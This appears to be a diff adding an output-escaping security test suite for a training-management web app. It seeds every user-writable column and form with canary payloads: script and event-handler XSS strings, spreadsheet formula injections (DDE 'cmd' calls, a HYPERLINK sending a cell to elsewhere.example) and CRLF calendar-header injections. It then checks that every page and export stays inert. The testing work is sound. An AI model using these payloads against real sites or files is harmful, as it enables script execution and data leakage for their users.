@@ -1,0 +1,430 @@
+// SEC-O2, SEC-O5, SEC-O6: hostile text in every stored field that a person can write comes back inert: on every page of every role, in what forms
+// show again, in CSV, XLSX, calendar files, file names and JSON. On a site of its own, because nothing in it is as it was afterwards.
+import './lib/own.mjs'
+import assert from 'node:assert/strict'
+import { execFileSync } from 'node:child_process'
+import { readFileSync } from 'node:fs'
+import { after, before, test } from 'node:test'
+import { everyProgram, open, sql, state, url } from './lib/site.mjs'
+import { signIn } from './lib/people.mjs'
+import { unzip } from './lib/zip.mjs'
+
+// ---- the canaries ----
+
+// Text that people can write, by table; and for every other text column of the database why nobody can.
+const written = {
+  calendar_day: ['name'],
+  class: ['note', 'cancel_reason'],
+  class_log: ['reason'],
+  class_session: ['topic'],
+  audit: ['before_json', 'after_json', 'request', 'address', 'program', 'act', 'noun', 'result'],
+  correction: ['wrong', 'wanted', 'answer'],
+  course: ['title', 'title_en', 'audience', 'summary'],
+  course_category: ['name', 'name_en'],
+  credential: ['disabled_why'],
+  enrolment_log: ['reason'],
+  file: ['name'],
+  instructor: ['name', 'title'],
+  notice: ['args'],
+  person: ['name', 'phone_masked'],
+  posting: ['post'],
+  region: ['name'],
+  role_grant: ['reason', 'end_reason'],
+  session: ['agent', 'flash_args'],
+  setting: ['value', 'before_value'],
+  setting_change: ['reason'],
+  standard: ['std_no', 'title', 'level', 'category', 'source', 'note'],
+  unit: ['name', 'short_name'],
+  unit_version: ['name', 'short_name'],
+  venue: ['name', 'short_name']
+}
+const fixed = { // words of the programs, codes, keys, digests
+  words: /^(state|field|open_field|from_state|to_state|step|kind|route|grade|mode|role|act|noun|result|program|type|lang|specialty|obligation|verification|capability|grade_band|employment|flash|slot)$/,
+  codes: /^(code|category_code|region_code|parent_code|uscc|staff_no|login)$/,
+  made: /^(folded|pinyin|initials|part|hash|checksum|request|address|path|result_path|unique_key|open_key|payload|last_error|before_json|after_json)$/,
+  here: ['class.audience', 'unit.level', 'unit_version.level', 'employment.word', 'employment.name_en', 'grade_band.word', 'grade_band.name_en', 'person.staff_key', 'setting.name', 'credential.disabled_kind', 'calendar_year.source', 'schema_migration.name', 'signing_key.key_id', 'signing_key.purpose', 'audit_head.key_id', 'audit_head.archive_file']
+}
+
+// What each is good for; # is the number by which the canary is known again.
+const kinds = [
+  '"><script>window.caught=#</script>',
+  "' onfocus='window.caught=#' autofocus x='",
+  '<?cs var:me.name ?><?cs evar:me.name ?>#',
+  "=cmd|'/C calc'!A0 #",
+  '=HYPERLINK("http://elsewhere.example/?"&A1,"#")',
+  '+1+cmd|#',
+  '-1-cmd|#',
+  '@SUM(A1:A9)#',
+  '</title></textarea></option><img src=x onerror=window.caught=#>',
+  'javascript:window.caught=#//',
+  'one\r\nX-Injected: #\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\n',
+  '\t=1+#',
+  '＝1+＃ \u2028 𬀩·𡈽 #',
+  '--><svg/onload=window.caught=#><!--',
+  '&lt;b&gt;&#34;&amp; {0} %s %n ${1} #',
+  '\\"\\\'\\\\ `#`'
+]
+const short = ['<b>', "'\"", '=1+', '<?cs'] // where a column has little room
+const columns = []
+const mark = (number) => `zq${number}z`
+const literal = (text) => `CONVERT(X'${Buffer.from(text, 'utf8').toString('hex')}' USING utf8mb4)`
+
+// Puts a canary into every row; which of them falls to a row depends on what stood there.
+function poison () {
+  const room = Object.fromEntries(sql("SELECT CONCAT(table_name, '.', column_name), character_maximum_length FROM information_schema.columns WHERE table_schema = 'jiangxin'"))
+  for (const [table, names] of Object.entries(written)) {
+    for (const name of names) {
+      const number = columns.push(`${table}.${name}`)
+      const texts = (Number(room[`${table}.${name}`]) < 80 ? short : kinds).map((text) => text.replaceAll('#', number) + mark(number))
+      const lines = name === 'args' || name === 'flash_args' ? texts.map((text) => Array(4).fill(text.replaceAll('\r\n', ' ')).join('\n')) : texts
+      // A trace of what stood there keeps apart what must not be the same twice.
+      sql(`UPDATE ${table} SET ${name} = CONCAT(ELT(1 + MOD(CRC32(${name}), ${lines.length}), ${lines.map(literal).join(', ')})${lines === texts ? `, LEFT(HEX(CRC32(${name})), 4)` : ''}) WHERE ${name} IS NOT NULL`)
+    }
+  }
+}
+
+// ---- walking through the site ----
+
+const programs = everyProgram
+const routes = programs.flatMap((program) =>
+  execFileSync(`${state}/app/bin/${program}`, ['--routes'], { encoding: 'utf8' }).trim().split('\n')
+    .map((line) => line.split('\t')).map(([method, path]) => ({ program, method, path })))
+
+const ids = (table, order) => sql(`SELECT TO_BASE64(public_id) FROM ${table} ORDER BY ${order}`).map(([id]) => id.replace(/=+$/, '').replace(/\+/g, '-').replace(/\//g, '_'))
+let named // what stands for the names in paths
+
+// Every address that a route of a page stands for, with `most` ids for a name; a list for each route.
+function groups (most) {
+  return routes.filter((route) => route.method === 'GET').map(({ path }) => {
+    const name = /:([a-z]+)/.exec(path)?.[1]
+    if (!name) return [path]
+    assert.ok(named[name], `${path}: what stands for :${name}?`)
+    return named[name].slice(0, most).map((id) => path.replace(`:${name}`, id))
+  })
+}
+const addresses = (most) => groups(most).flat()
+
+const roles = ['trainee', 'training_manager', 'liaison', 'hr', 'leader', 'secadmin', 'sysadmin', 'auditor']
+const cookies = {}
+
+async function fetched (role, path, options = {}) {
+  const answer = await fetch(url + path, { redirect: 'manual', ...options, headers: { cookie: cookies[role], ...options.headers } })
+  const bytes = Buffer.from(await answer.arrayBuffer())
+  assert.ok(answer.status < 500, `${role} ${path}: ${answer.status}`)
+  assert.ok(!answer.headers.has('x-injected'), `${role} ${path}: a header came in`)
+  return { status: answer.status, type: answer.headers.get('content-type') ?? '', headers: answer.headers, bytes, text: bytes.toString('utf8') }
+}
+
+// All pages that a role gets: calls `look` with each and its address. Of what is not for the role, only the first refusal.
+async function pages (role, lang, most, look) {
+  for (const group of groups(most)) {
+    for (const path of group) {
+      const answer = await fetched(role, path, { headers: { cookie: `${cookies[role]}; jx_lang=${lang}` } })
+      if (answer.type.startsWith('text/html')) await look(answer, path)
+      if (answer.status === 403) break
+    }
+  }
+}
+
+// Takes a page apart in the browser, as a browser does, without running it.
+let laboratory
+const known = { elements: new Set(), attributes: new Set() } // of the pages as they were
+const shown = new Map() // marks seen, and where first
+
+const dissect = (html) => laboratory.evaluate(([html, origin]) => {
+  const page = new DOMParser().parseFromString(html, 'text/html')
+  const found = { elements: [], attributes: [], faults: [], words: [page.documentElement.textContent] }
+  for (const element of page.querySelectorAll('*')) {
+    found.elements.push(element.localName)
+    if (element.localName === 'script' && (element.textContent || !/^\/static\/js\//.test(element.getAttribute('src')))) found.faults.push(element.outerHTML.slice(0, 200))
+    for (const { name, value } of element.attributes) {
+      found.attributes.push(name)
+      found.words.push(value)
+      if (/^(href|src|action|formaction|poster|srcset)$/.test(name)) {
+        const to = new URL(value, origin + '/')
+        if (to.origin !== origin || !/^https?:$/.test(to.protocol)) found.faults.push(`${name}=${value}`)
+      }
+    }
+  }
+  const comments = page.createTreeWalker(page, NodeFilter.SHOW_COMMENT | NodeFilter.SHOW_PROCESSING_INSTRUCTION)
+  while (comments.nextNode()) found.faults.push(`<!--${comments.currentNode.data.slice(0, 100)}`)
+  const forms = [...page.querySelectorAll('form')].map((form) => ({
+    method: form.method,
+    action: form.getAttribute('action') ?? '',
+    fields: [...form.elements].filter((e) => e.name).map((e) => ({ name: e.name, type: e.type, value: e.value, checked: e.checked }))
+  }))
+  return { elements: [...new Set(found.elements)], attributes: [...new Set(found.attributes)], faults: found.faults, words: found.words.join('\n'), forms }
+}, [html, url])
+
+function note (text, where) {
+  for (const [, number] of text.matchAll(/zq(\d+)z/g)) if (!shown.has(number)) shown.set(number, where)
+}
+
+// A page with canaries has the elements and attributes that it had without them, and nothing that leads elsewhere.
+async function inert (answer, where) {
+  const page = await dissect(answer.text)
+  const strange = [...page.elements.filter((name) => !known.elements.has(name)).map((name) => `<${name}>`), ...page.attributes.filter((name) => !known.attributes.has(name)), ...page.faults]
+  assert.deepEqual(strange, [], where)
+  note(page.words, where)
+  return page
+}
+
+const closing = []
+after(async () => { for (const close of closing) await close() })
+
+// Rows that nobody has made yet on a new site: a setting in words, an account that was closed, a role that has ended.
+before(() => {
+  sql("INSERT INTO setting_change (id, at, reason) VALUES (1, '2026-11-17', '上级通知')")
+  sql("INSERT INTO setting (name, change_id, value, before_value) VALUES ('privacy_contact', 1, '办公室 0000-1234567', '无')")
+  sql("INSERT INTO credential (person_id, login, hash, one_time, changed_at, disabled_at, disabled_kind, disabled_why) SELECT id, staff_key, 'x', 0, '2026-01-01', '2026-11-01', 'hand', '调离' FROM person WHERE id NOT IN (SELECT person_id FROM credential) ORDER BY id LIMIT 1")
+  sql("INSERT INTO role_grant (public_id, person_id, role, scope_unit_id, from_on, until_on, created_at, ended_by, ended_at, end_reason) SELECT RANDOM_BYTES(16), (SELECT id FROM person ORDER BY id DESC LIMIT 1), 'leader', (SELECT id FROM unit WHERE parent_id IS NULL ORDER BY id LIMIT 1), '2026-01-01', '2026-06-01', '2026-01-01', (SELECT id FROM person ORDER BY id LIMIT 1), '2026-05-31', '分工调整'")
+})
+
+before(async () => {
+  laboratory = await open({ after: (close) => closing.push(close) })
+  for (const role of roles) {
+    const page = await open({ after: (close) => closing.push(close) })
+    await signIn(page, role)
+    cookies[role] = (await page.context().cookies()).map((c) => `${c.name}=${c.value}`).join('; ')
+    await page.close()
+  }
+  named = {
+    course: ids('course', '(SELECT COUNT(*) FROM class c WHERE c.course_id = course.id) DESC, id'),
+    class: ids('class', 'ROW_NUMBER() OVER (PARTITION BY state ORDER BY id)'),
+    enrolment: ids('enrolment', 'ROW_NUMBER() OVER (PARTITION BY state, step ORDER BY id)'),
+    notice: ids('notice', 'id'),
+    grant: ids('role_grant', 'end_reason IS NULL, id'),
+    unit: ids('unit', 'id'),
+    person: ids('person', 'id NOT IN (SELECT person_id FROM credential WHERE disabled_at IS NOT NULL), id'),
+    correction: ids('correction', 'id'), run: ['AAAAAAAAAAAAAAAAAAAAAA'],
+    posting: ids('posting', 'id'),
+    format: ['csv', 'xlsx', 'json'],
+    number: sql('SELECT id FROM audit ORDER BY before_json IS NULL, id DESC LIMIT 40').map(([id]) => id)
+  }
+})
+
+test('every text column of the database is known: people write it, or nobody can', () => {
+  const all = sql("SELECT c.table_name, c.column_name FROM information_schema.columns c JOIN information_schema.tables t USING (table_schema, table_name) WHERE c.table_schema = 'jiangxin' AND t.table_type = 'BASE TABLE' AND c.data_type IN ('char', 'varchar', 'tinytext', 'text', 'mediumtext', 'longtext', 'json')")
+  const unknown = all.filter(([table, name]) => !written[table]?.includes(name) && !fixed.words.test(name) && !fixed.codes.test(name) && !fixed.made.test(name) && !fixed.here.includes(`${table}.${name}`))
+  assert.deepEqual(unknown.map((column) => column.join('.')), [], 'new columns: add them to `written` or to `fixed`')
+  const gone = Object.entries(written).flatMap(([table, names]) => names.map((name) => `${table}.${name}`)).filter((column) => !all.some((one) => one.join('.') === column))
+  assert.deepEqual(gone, [])
+})
+
+test('what pages are made of, before', async () => {
+  let seen = 0
+  for (const role of roles) {
+    await pages(role, 'zh-CN', 4, async (answer, path) => {
+      const page = await dissect(answer.text)
+      assert.deepEqual(page.faults, [], path)
+      page.elements.forEach((name) => known.elements.add(name))
+      page.attributes.forEach((name) => known.attributes.add(name))
+      seen += answer.status === 200
+    })
+  }
+  // What only the pages of an invalid form and an empty list have.
+  for (const name of ['aria-invalid', 'aria-describedby', 'tabindex', 'role', 'checked', 'selected', 'disabled', 'open', 'maxlength', 'rows', 'rel']) known.attributes.add(name)
+  for (const name of ['strong', 'br', 'ol', 'ul', 'li', 'table', 'details', 'summary', 'textarea', 'select', 'option', 'fieldset', 'legend']) known.elements.add(name)
+  for (const name of known.attributes) assert.doesNotMatch(name, /^(on|style$|srcdoc$|autofocus$|x$)/)
+  for (const name of known.elements) assert.doesNotMatch(name, /^(img|svg|iframe|object|embed|style|base|b|a-)$/)
+  assert.ok(seen > 60, `${seen} pages`)
+})
+
+test('SEC-O2 SEC-O5 every page of every role, in both languages', async () => {
+  poison()
+  await new Promise((resolve) => setTimeout(resolve, 2500)) // what workers keep for a moment is gone then
+  for (const role of roles) {
+    for (const [lang, most] of [['zh-CN', 8], ['en', 2]]) await pages(role, lang, most, (answer, path) => inert(answer, `${role} ${path} ${lang}`))
+  }
+})
+
+test('SEC-O2 the same in a real browser: nothing runs', async (t) => {
+  for (const role of ['trainee', 'training_manager', 'liaison', 'secadmin']) {
+    const page = await open(t, { expect: /status of 40[34]/ })
+    page.on('dialog', (dialog) => assert.fail(`a dialog: ${dialog.message()}`))
+    await page.context().addCookies(cookies[role].split('; ').map((pair) => ({ name: pair.slice(0, pair.indexOf('=')), value: pair.slice(pair.indexOf('=') + 1), url })))
+    for (const group of groups(2)) {
+      for (const path of group.filter((path) => !/\.(csv|xlsx|ics)$|\/export\//.test(path))) {
+        const answer = await page.goto(path)
+        assert.equal(await page.evaluate(() => window.caught), undefined, path)
+        if (answer.status() === 403) break
+      }
+    }
+  }
+})
+
+// ---- files ----
+
+function parseCsv (text) {
+  const rows = [[]]
+  for (let at = 0; at < text.length;) {
+    let cell = ''
+    if (text[at] === '"') {
+      for (at++; text[at] !== '"' || text[at + 1] === '"'; at++) {
+        assert.ok(at < text.length, 'a quote that does not end')
+        if (text[at] === '"') at++
+        cell += text[at]
+      }
+      at++
+    } else while (at < text.length && !/[,\r\n]/.test(text[at])) cell += text[at++]
+    rows.at(-1).push(cell)
+    if (text[at] === ',') { at++; continue }
+    assert.equal(text.slice(at, at + 2), '\r\n', 'a row ends in CR LF')
+    at += 2
+    if (at < text.length) rows.push([])
+  }
+  return rows
+}
+
+// The files that a route offers, each with its address: [address, answer].
+async function files (role, pattern) {
+  const list = []
+  for (const path of addresses(30).filter((path) => pattern.test(path))) {
+    const answer = await fetched(role, path)
+    if (answer.status !== 200) continue
+    const disposition = answer.headers.get('content-disposition')
+    assert.match(disposition, /^attachment; filename="[^"\\\r\n]*"; filename\*=UTF-8''[A-Za-z0-9%._~-]*$/, `${path}: ${disposition}`)
+    list.push([path, answer])
+  }
+  return list
+}
+
+test('SEC-O6 CSV: nothing for a spreadsheet to run, every cell in its row', async () => {
+  const found = [...await files('training_manager', /\.csv$|\/csv$/), ...await files('trainee', /\/csv$/), ...await files('auditor', /^\/audit.*\/csv$/)]
+  assert.ok(found.length >= 5, `${found.length} files`)
+  for (const [path, { text, type }] of found) {
+    assert.match(type, /^text\/csv/, path)
+    assert.equal(text[0], '\ufeff', path)
+    const rows = parseCsv(text.slice(1))
+    for (const row of rows) {
+      assert.equal(row.length, rows[0].length, `${path}: ${row}`)
+      for (const cell of row) assert.doesNotMatch(cell, /^\s*[=+@\t\r＝＋－＠]|^\s*-(?!\d+(\.\d+)?$)/, path)
+    }
+    note(text, path)
+  }
+  assert.ok(found.some(([, { text }]) => /'=cmd\|/.test(text) || /'=HYPERLINK/.test(text)), 'canaries are in them')
+})
+
+test('SEC-O6 XLSX: text cells, no formula, nothing from outside', async () => {
+  const found = [...await files('training_manager', /\.xlsx$|\/xlsx$/), ...await files('trainee', /\/xlsx$/)]
+  assert.ok(found.length >= 5, `${found.length} files`)
+  for (const [path, { bytes }] of found) {
+    const parts = unzip(bytes)
+    assert.ok(parts['xl/worksheets/sheet1.xml'], path)
+    for (const [name, text] of Object.entries(parts)) {
+      assert.doesNotMatch(name, /externalLink|vbaProject|embedding|\.bin$/, path)
+      assert.doesNotMatch(text, /TargetMode="External"/, `${path} ${name}`)
+      await laboratory.evaluate(([text, name]) => {
+        const xml = new DOMParser().parseFromString(text, 'text/xml')
+        if (xml.querySelector('parsererror')) throw new Error(`${name}: ${xml.querySelector('parsererror').textContent}`)
+        if (name.includes('worksheets/sheet') && xml.querySelector('f, hyperlink, script')) throw new Error(`${name}: ${xml.querySelector('f, hyperlink, script').outerHTML}`)
+      }, [text, name])
+    }
+    note(parts['xl/sharedStrings.xml'] ?? parts['xl/worksheets/sheet1.xml'], path)
+  }
+})
+
+test('SEC-O2 calendar files: one event per session, no line that somebody wrote', async () => {
+  const found = await files('trainee', /\.ics$/)
+  assert.ok(found.length >= 3, `${found.length} files`)
+  const properties = /^(BEGIN|END|VERSION|PRODID|CALSCALE|METHOD|NAME|X-WR-CALNAME|X-WR-TIMEZONE|UID|DTSTAMP|DTSTART|DTEND|SUMMARY|LOCATION|DESCRIPTION|URL|STATUS|SEQUENCE|TRANSP|REFRESH-INTERVAL\S*)[:;]/
+  for (const [path, { text, type }] of found) {
+    assert.match(type, /^text\/calendar/, path)
+    assert.doesNotMatch(text.replaceAll('\r\n', ''), /[\r\n]/, path)
+    const lines = text.replaceAll('\r\n ', '').split('\r\n').slice(0, -1)
+    for (const line of lines) assert.match(line, properties, path)
+    const count = (line) => lines.filter((one) => one === line).length
+    assert.equal(count('BEGIN:VEVENT'), count('END:VEVENT'), path)
+    assert.equal(count('BEGIN:VEVENT'), lines.filter((line) => /^UID[:;]/.test(line)).length, path)
+    note(text, path)
+  }
+})
+
+// ---- forms ----
+
+// Every form of every page, filled with canaries and sent: what comes back, page or redirect and page, is as inert.
+test('what forms show again, and what they say afterwards', async () => {
+  const number = columns.push('typed')
+  const typed = kinds.map((text) => text.replaceAll('#', number).replaceAll(/[\r\n\t\u2028]/g, ' ') + mark(number))
+  const sent = new Set()
+  let turn = 0
+  for (const role of ['trainee', 'liaison', 'training_manager', 'hr', 'secadmin']) {
+    for (const path of addresses(3)) {
+      const answer = await fetched(role, path)
+      if (!answer.type.startsWith('text/html')) continue
+      for (const form of (await dissect(answer.text)).forms) {
+        const kind = `${role} ${form.method} ${form.action.replace(/[\w-]{22}/g, ':id')}`
+        if (sent.has(kind) || /sign-out|language|password|sign-in/.test(form.action)) continue
+        sent.add(kind)
+        for (let i = 0; i < 4; i++) {
+          const fields = new URLSearchParams()
+          for (const field of form.fields) {
+            if (/^_/.test(field.name)) fields.append(field.name, field.value)
+            else if (/^(text|search|textarea|hidden)$/.test(field.type)) fields.append(field.name, typed[turn++ % typed.length])
+            else if (!/^(radio|checkbox)$/.test(field.type) || field.checked) fields.append(field.name, i % 2 ? typed[turn++ % typed.length] : field.value)
+          }
+          const where = `${kind}, ${i}`
+          const reply = form.method === 'get'
+            ? await fetched(role, `${form.action}?${fields}`)
+            : await fetched(role, form.action, { method: 'POST', headers: { origin: url, 'content-type': 'application/x-www-form-urlencoded' }, body: fields.toString() })
+          if (reply.status === 303) {
+            const location = reply.headers.get('location')
+            assert.match(location, /^\/(?![/\\])[\x21-\x7e]*$/, where)
+            const next = await fetched(role, location)
+            if (next.type.startsWith('text/html')) await inert(next, `${where} -> ${location}`)
+          } else {
+            await inert(reply, where)
+          }
+          if (form.method === 'get') continue
+          // The same for a script: JSON that no browser takes for a page.
+          fields.set('_key', 'A'.repeat(20) + 'AEIMQUYcgkosw048'[i] + 'A')
+          const told = await fetched(role, `/api${form.action}`, { method: 'POST', headers: { origin: url, accept: 'application/json', 'content-type': 'application/x-www-form-urlencoded' }, body: fields.toString() })
+          assert.match(told.type, /^application\/json/, where)
+          assert.equal(told.headers.get('x-content-type-options'), 'nosniff', where)
+          assert.equal(typeof JSON.parse(told.text), 'object', where)
+          assert.doesNotMatch(told.text, /[<>\u2028]/, where)
+          note(told.text, `json ${where}`)
+        }
+      }
+    }
+  }
+  assert.ok(sent.size >= 8, [...sent].join('\n'))
+})
+
+test('the clash of two classes names the other, to a person and to a script', async () => {
+  const csrf = /name="_csrf" value="([^"]+)"/.exec((await fetched('trainee', '/')).text)[1]
+  const key = () => Buffer.from(crypto.getRandomValues(new Uint8Array(16))).toString('base64url')
+  let refused = 0
+  for (const id of named.class) {
+    for (const api of ['', '/api']) {
+      const answer = await fetched('trainee', `${api}/training/class/${id}/enrol`, { method: 'POST', headers: { origin: url, 'content-type': 'application/x-www-form-urlencoded' }, body: `_csrf=${csrf}&_key=${key()}` })
+      if (api) {
+        const { message } = JSON.parse(answer.text)
+        refused += answer.status === 409
+        note(message ?? '', 'refusals in JSON')
+        assert.doesNotMatch(answer.text, /[<>\u2028]/)
+      } else if (answer.status === 303) {
+        await inert(await fetched('trainee', answer.headers.get('location')), `enrolling in ${id}`)
+      }
+    }
+  }
+  assert.ok(refused > 0)
+})
+
+// ---- and was it really there ----
+
+test('the canaries were seen', (t) => {
+  const unseen = columns.filter((name, i) => !shown.has(String(i + 1)))
+  t.diagnostic(`never shown by any page yet: ${unseen.join(', ')}`)
+  for (const name of ['class.note', 'class_session.topic', 'course.title', 'course.title_en', 'course.audience', 'course.summary', 'course_category.name', 'course_category.name_en',
+    'instructor.name', 'notice.args', 'person.name', 'posting.post', 'standard.title', 'unit.name', 'venue.name', 'typed']) {
+    assert.ok(!unseen.includes(name), `${name} came out nowhere: the test did not look where it stands`)
+  }
+})
+
+test('nothing went wrong inside', () => {
+  for (const name of programs) {
+    const said = readFileSync(`${state}/log/${name}.log`, 'utf8').split('\n').filter((line) => /^ERROR|Sanitizer|runtime error/.test(line))
+    assert.deepEqual(said.slice(0, 5), [], `${name}.log`)
+  }
+})
